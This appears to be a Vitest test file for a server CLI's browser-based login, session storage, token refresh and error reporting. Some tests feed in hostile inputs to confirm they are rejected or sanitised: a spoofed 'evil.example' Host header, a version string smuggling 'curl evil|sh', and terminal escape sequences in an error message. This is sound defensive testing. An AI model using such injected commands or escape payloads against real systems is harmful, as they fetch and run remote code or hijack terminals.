import { chmod, readFile, rm, stat, writeFile } from 'node:fs/promises'
import { createServer, request } from 'node:http'
import { hostname } from 'node:os'
import { dirname, join } from 'node:path'
import { expect, vi } from 'vitest'
import { operatorName } from '../../server/cli/io/host.js'
import { openRemoteSession } from '../../server/cli/remote/session.js'
import { version } from '../../server/version.js'
import { hostWith, runUsher } from '../support/command-line.js'
import { it as consoleTest, type LoggedInOperator } from '../support/console.js'
import { createDataFolder } from '../support/store.js'

/** The page of the console, as far as the server sees it. */
interface FakePage {
  operator: LoggedInOperator
  /** What the command line asks for. */
  wanted: Record<string, string>
  /** Allows it, and returns the code. */
  allow(): Promise<string>
  /** Returns to the command line, and returns the status of its response. */
  returnWith(parameters: object, headers?: Record<string, string>): Promise<number | undefined>
}

/** Returns the input of a command whose operator opens the address that the terminal shows. What `act` returns is typed. */
const browserOf =
  (operator: LoggedInOperator, act: (page: FakePage) => Promise<unknown>) =>
  async (shown: string): Promise<string | undefined> => {
    const [, fragment] = /\/console\/authorize#(\S+)/.exec(shown) ?? []
    if (!fragment) return undefined
    const wanted = Object.fromEntries(new URLSearchParams(fragment)) as Record<string, string>
    const { port, state, purpose, challenge, name } = wanted
    const typed = await act({
      operator,
      wanted,
      async allow() {
        const headers = { 'usher-confirmation': await operator.confirm() }
        const body = { purpose, challenge, name }
        const response = await operator.send('POST', '/operator/command-line/codes', body, headers)
        return String(response.json().code)
      },
      returnWith: (parameters, headers = {}) =>
        new Promise((resolve, reject) => {
          const path = `/?${new URLSearchParams({ state: String(state), ...parameters })}`
          request({ host: '127.0.0.1', port, path, headers }, (response) =>
            resolve(response.resume().statusCode),
          )
            .on('error', reject)
            .end()
        }),
    })
    return typeof typed === 'string' ? typed : undefined
  }

const allowAndReturn = async ({ allow, returnWith }: FakePage) => {
  await returnWith({ code: await allow() })
}

const it = consoleTest
  .extend('url', { scope: 'file' }, async ({ usher }) => {
    usher.clock.now = Date.now()
    return usher.app.listen({ host: '127.0.0.1', port: 0 })
  })
  .extend('owner', { scope: 'file' }, ({ console }) => console.owner())
  /** The command line of a user who is logged in nowhere. */
  .extend('cli', async ({ usher, url, owner }, { onCleanup }) => {
    const folder = await createDataFolder()
    // No browser is opened over SSH.
    const env = { XDG_CONFIG_HOME: folder, SSH_CONNECTION: 'test' }
    onCleanup(async () => {
      vi.unstubAllEnvs()
      await rm(folder, { recursive: true, force: true })
    })
    /** Until the next command has ended. */
    function useFolder() {
      for (const [name, value] of Object.entries(env)) vi.stubEnv(name, value)
    }
    const file = join(folder, 'usher', 'sessions.json')
    const run = (command: string, act: (page: FakePage) => Promise<unknown> = allowAndReturn) =>
      runUsher(command.split(' '), env, browserOf(owner, act))
    const outcome = async (...given: Parameters<typeof run>) => {
      const { code, stdout, stderr } = await run(...given)
      return `${code} ${stdout}${stderr.split('\n').at(-2) ?? ''}`
    }
    const stored = async () => JSON.parse(await readFile(file, 'utf8'))[url]
    return {
      env,
      file,
      useFolder,
      run,
      outcome,
      stored,
      store: async (change: object) =>
        writeFile(file, JSON.stringify({ [url]: { ...(await stored()), ...change } })),
      login: () => run(`login ${url}`),
      /** Opens the session as a remote command does. */
      async open(input: Parameters<typeof hostWith>[0] = '') {
        useFolder()
        return openRemoteSession(url, hostWith(input).host)
      },
      sessions: () => usher.store.prisma.session.findMany({ where: { endedAt: null, label: { not: null } } }),
    }
  })

it('logs in through the browser, keeps the session for its user only, and logs out', async ({
  url,
  owner,
  cli,
}) => {
  const { code, stdout, stderr } = await cli.run(`login ${url}`, async ({ wanted, allow, returnWith }) => {
    expect(wanted).toMatchObject({ purpose: 'login', name: `${operatorName()}@${hostname()}` })
    const given = await allow()
    const refused = [
      await returnWith({ code: given, state: 'other' }),
      await returnWith({ code: given }, { host: 'evil.example' }),
    ]
    expect(refused).toEqual([404, 404])
    expect(await returnWith({ code: given })).toBe(200)
  })
  expect({ code, stdout }).toEqual({ code: 0, stdout: `Logged in to ${url} as ${owner.email}.\n` })
  const { refreshToken, token, email } = await cli.stored()
  expect(email).toBe(owner.email)
  expect(stdout + stderr).not.toContain(refreshToken)
  expect(stdout + stderr).not.toContain(token)
  const modes = [cli.file, dirname(cli.file)].map(async (path) =>
    ((await stat(path)).mode & 0o777).toString(8),
  )
  if (process.platform !== 'win32') expect(await Promise.all(modes)).toEqual(['600', '700'])
  expect(await cli.sessions()).toMatchObject([{ label: `${operatorName()}@${hostname()}` }])

  const session = await cli.open()
  expect([session.operator.email, await session.token()]).toEqual([owner.email, token])
  const me = await fetch(`${url}/operator/me`, { headers: { authorization: `Bearer ${token}` } })
  expect((await me.json()).email).toBe(owner.email)

  expect(await cli.outcome('logout')).toBe(`0 Logged out of ${url}.\n`)
  expect(await cli.sessions()).toEqual([])
  expect(await cli.outcome('logout')).toBe('0 Not logged in.\n')
  cli.useFolder()
  await expect(session.token()).rejects.toMatchObject({
    code: 'login_missing',
    message: `not logged in to ${url}. Run: npx @usher/server login ${url}`,
  })
})

it('takes the code that the browser shows, or the address that the browser could not open', async ({
  url,
  cli,
}) => {
  const without = await cli.run(`login ${url} --no-browser`, async ({ wanted, allow }) => {
    expect(wanted.port).toBeUndefined()
    return allow()
  })
  expect(without.code).toBe(0)
  const address = await cli.outcome(`login ${url}`, async ({ wanted, allow }) => {
    const parameters = new URLSearchParams({ code: await allow(), state: String(wanted.state) })
    return `http://127.0.0.1:${wanted.port}/?${parameters}`
  })
  expect(address).toMatch(/^0 Logged in/)
  // The second login has ended the session of the first one.
  expect(await cli.sessions()).toHaveLength(1)
  expect(await cli.outcome(`login ${url} --no-browser`, async () => 'wrong')).toMatch(/^2 usher: /)
  await cli.outcome('logout')
  const { stderr } = await runUsher(['login', url, '--no-browser'], cli.env)
  expect(stderr).toContain('--no-browser requires a terminal')
})

it('a login that is cancelled in the browser leaves no session', async ({ url, cli }) => {
  const cancel = async ({ returnWith }: FakePage) => {
    await returnWith({ error: 'access_denied' })
  }
  expect(await cli.outcome(`login ${url}`, cancel)).toBe('1 usher: cancelled in the browser')
  expect(await cli.outcome('logout')).toBe('0 Not logged in.\n')
})

it('commands at the same time refresh a session once, and notice that it has ended', async ({
  usher,
  url,
  cli,
}) => {
  await cli.login()
  const { token: former } = await cli.stored()
  await cli.store({ refreshAt: 0 })
  const [first, second] = [await cli.open(), await cli.open()]
  const tokens = await Promise.all([first.token(), second.token(), second.token()])
  expect(new Set(tokens).size).toBe(1)
  expect(tokens[0]).not.toBe(former)
  expect(await cli.sessions()).toMatchObject([{ refreshes: 1 }])
  const rejected = await Promise.all([first.token(tokens[0]), second.token(tokens[0])])
  expect(new Set(rejected).size).toBe(1)
  expect(await cli.sessions()).toMatchObject([{ refreshes: 2 }])

  await usher.store.prisma.session.updateMany({
    data: { endedAt: new Date() },
    where: { label: { not: null } },
  })
  await expect(first.token(rejected[0])).rejects.toMatchObject({ code: 'login_missing' })
  await expect(cli.open()).rejects.toMatchObject({ code: 'login_missing' })
  expect(await cli.outcome(`logout ${url}`)).toBe('0 Not logged in.\n')
})

it('confirms with a code of the app on the terminal, and in the browser without one', async ({
  url,
  owner,
  cli,
}) => {
  await cli.login()
  const confirms = async (session: Awaited<ReturnType<typeof cli.open>>) => {
    const headers = {
      authorization: `Bearer ${await session.token()}`,
      'usher-confirmation': await session.confirm(),
      'content-type': 'application/json',
    }
    const body = JSON.stringify({ email: owner.email, workspace: null, role: 'owner' })
    return (await fetch(`${url}/operator/operators`, { method: 'POST', headers, body })).status
  }
  const typed = ['wrong', '000000']
  const byCode = await cli.open(async (shown) =>
    shown.endsWith('app: ') ? (typed.shift() ?? owner.nextCode()) : undefined,
  )
  expect(await confirms(byCode)).toBe(201)
  expect(typed).toEqual([])

  const { host, output } = hostWith('')
  const { write } = host.stderr
  const open = browserOf(owner, allowAndReturn)
  host.stderr.write = (text: string) => {
    open(text)
    return write.call(host.stderr, text)
  }
  expect(await confirms(await openRemoteSession(url, host))).toBe(201)
  expect(output.stderr).toContain('purpose=confirmation')
  await cli.outcome('logout')
})

it.skipIf(process.platform === 'win32')(
  'refuses a file of sessions that others can use',
  async ({ url, cli }) => {
    await cli.login()
    await chmod(cli.file, 0o620)
    expect(await cli.outcome(`login ${url}`)).toMatch(/^1 usher: .*sessions.json has mode 620/)
    expect(await cli.outcome('logout')).toMatch(/^1 usher: /)
    await chmod(cli.file, 0o600)
    await chmod(dirname(cli.file), 0o770)
    await expect(cli.open()).rejects.toMatchObject({ code: 'sessions_unusable' })
    await chmod(dirname(cli.file), 0o700)
    await writeFile(cli.file, '{"half')
    expect(await cli.outcome('logout')).toMatch(/^1 usher: .*sessions.json is damaged/)
  },
)

it('says what is wrong with a server', async ({ cli, onTestFinished }) => {
  let respond: readonly [status: number, body: string] = [200, '<html>']
  const server = createServer((_request, response) => response.writeHead(respond[0]).end(respond[1]))
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  onTestFinished(() => void server.close())
  const url = `http://127.0.0.1:${(server.address() as { port: number }).port}`
  const codeOf = async (given: string, response = respond) => {
    respond = response
    const { stderr } = await cli.run(`login ${given} --json`)
    return JSON.parse(stderr)
  }
  const console = { workspace: 'usher', database: 'operators', hasOperators: true }
  const problem = { code: 'route_not_found', detail: 'Not found.' }
  expect([
    await codeOf('usher.example.com'),
    await codeOf('http://usher.example.com'),
    await codeOf(url, [404, JSON.stringify(problem)]),
    await codeOf(url, [200, '<html>']),
    await codeOf(url, [302, '']),
    await codeOf(url, [502, '<html>']),
    await codeOf(url, [200, JSON.stringify({ ...console, version: '0.0.1' })]),
    await codeOf(url, [200, JSON.stringify({ ...console, version: 'npm:evil@1; curl evil|sh' })]),
    await codeOf(url, [200, 'x'.repeat(4_200_000)]),
    await codeOf('http://127.0.0.1:1'),
  ]).toMatchObject([
    { code: 'usage_error', exitCode: 2 },
    { code: 'usage_error', exitCode: 2 },
    { code: 'console_missing', exitCode: 3, detail: expect.stringContaining('CONSOLE=on') },
    { code: 'console_missing', exitCode: 3 },
    { code: 'console_missing', exitCode: 3 },
    { code: 'server_unreachable', exitCode: 5 },
    {
      code: 'server_version',
      exitCode: 1,
      detail: `${url} is Usher 0.0.1, and this command is ${version}. Run it with: npx @usher/server@0.0.1`,
    },
    { code: 'server_version', detail: `${url} is of an unknown version, and this command is ${version}` },
    { code: 'server_unreachable', detail: expect.stringContaining('more than 4194304 bytes') },
    { code: 'server_unreachable', exitCode: 5 },
  ])
  const hostile = { code: 'unavailable', detail: 'later\u001b]0;OWNED\u0007\u001b[2J' }
  respond = [503, JSON.stringify(hostile)]
  expect(await cli.outcome(`login ${url}`)).toBe('5 usher: later\uFFFD]0;OWNED\uFFFD\uFFFD[2J')
})
